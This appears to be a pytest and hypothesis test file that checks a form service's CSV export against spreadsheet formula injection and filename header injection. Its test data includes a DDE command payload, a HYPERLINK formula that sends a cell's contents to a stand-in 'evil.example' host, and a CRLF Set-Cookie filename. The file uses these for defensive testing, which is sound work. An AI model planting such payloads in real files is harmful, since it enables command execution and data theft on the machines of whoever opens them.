"""What leaves for a spreadsheet: whatever people wrote, no cell of it calculates, and nothing of it is lost."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import formsvc
from formsvc.web.spreadsheets import MARK, as_csv, csv_file, harmless

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CALCULATES = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
PIECES = st.sampled_from(
    [*STARTS, ";", ",", '"', "'", "|", " ", "\xa0", "\u200b", "cmd|' /C calc'!A0", "a", "1", "\x00"]
)
HOSTILE = st.lists(PIECES | st.text(max_size=3), max_size=12).map("".join)


def cells(text: str, delimiter: str = ",") -> list[str]:
    """As a spreadsheet reads it whose list separator is this."""
    rows = csv.reader(io.StringIO(text.removeprefix(MARK), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\uff1d1", " =1", "\xa0=1", "\u200b=1", '"=1', "\x00=1",
     "=HYPERLINK(\"http://evil.example?\"&A1)", "=cmd|' /C calc'!A0"],
)  # fmt: skip
def test_what_begins_like_a_formula_is_text(cell: str) -> None:
    assert harmless(cell).startswith("'")


@pytest.mark.parametrize("cell", ["Visit request", "3 days", "a=b", "x-y", "0113 496 0000", "", "O'Neil", "3 - 4"])
def test_what_does_not_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_numbers_of_ours_stay_numbers() -> None:
    assert [harmless(cell) for cell in (-3, 0, 2.5, None)] == ["-3", "0", "2.5", ""]


@given(st.lists(st.lists(HOSTILE, min_size=3, max_size=3), max_size=4))
def test_no_cell_calculates_whatever_is_written(rows: list[list[str]]) -> None:
    text = as_csv(("A", "B", "C"), rows)

    for cell in cells(text):
        assert not cell.startswith(STARTS)
        assert not cell.lstrip(' \xa0\u200b"').startswith(CALCULATES) or cell.startswith("'")


@given(HOSTILE)
def test_no_cell_calculates_where_the_list_separator_is_another(hostile: str) -> None:
    text = as_csv(("A", "B"), [("x", hostile)])

    for delimiter in ";\t|":
        broken = re.split(rf"[{re.escape(delimiter)}\r\n]", text.removeprefix(MARK))
        assert not any(cell.lstrip(' "').startswith(CALCULATES) for cell in broken)


@given(HOSTILE)
def test_nothing_is_lost_but_marks_that_are_not_text(cell: str) -> None:
    (_, read) = cells(as_csv(("A",), [(cell,)]))

    shown = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", "", cell)
    assert read.replace("'", "") == shown.replace("'", "")


def test_the_name_of_a_file_adds_nothing_to_the_headers() -> None:
    said = csv_file('a"; x=\r\nSet-Cookie: b.csv', ("A",), ()).headers["Content-Disposition"]

    assert said == 'attachment; filename="a-x-Set-Cookie-b.csv"'


def test_every_csv_file_of_the_service_is_written_in_one_place() -> None:
    room = Path(formsvc.__file__).parent
    writers = [str(path.relative_to(room)) for path in room.rglob("*.py") if "csv.writer" in path.read_text()]
    writers += [str(path.relative_to(room)) for path in room.rglob("*.py") if "csv.DictWriter" in path.read_text()]

    assert writers == ["web/spreadsheets.py"]
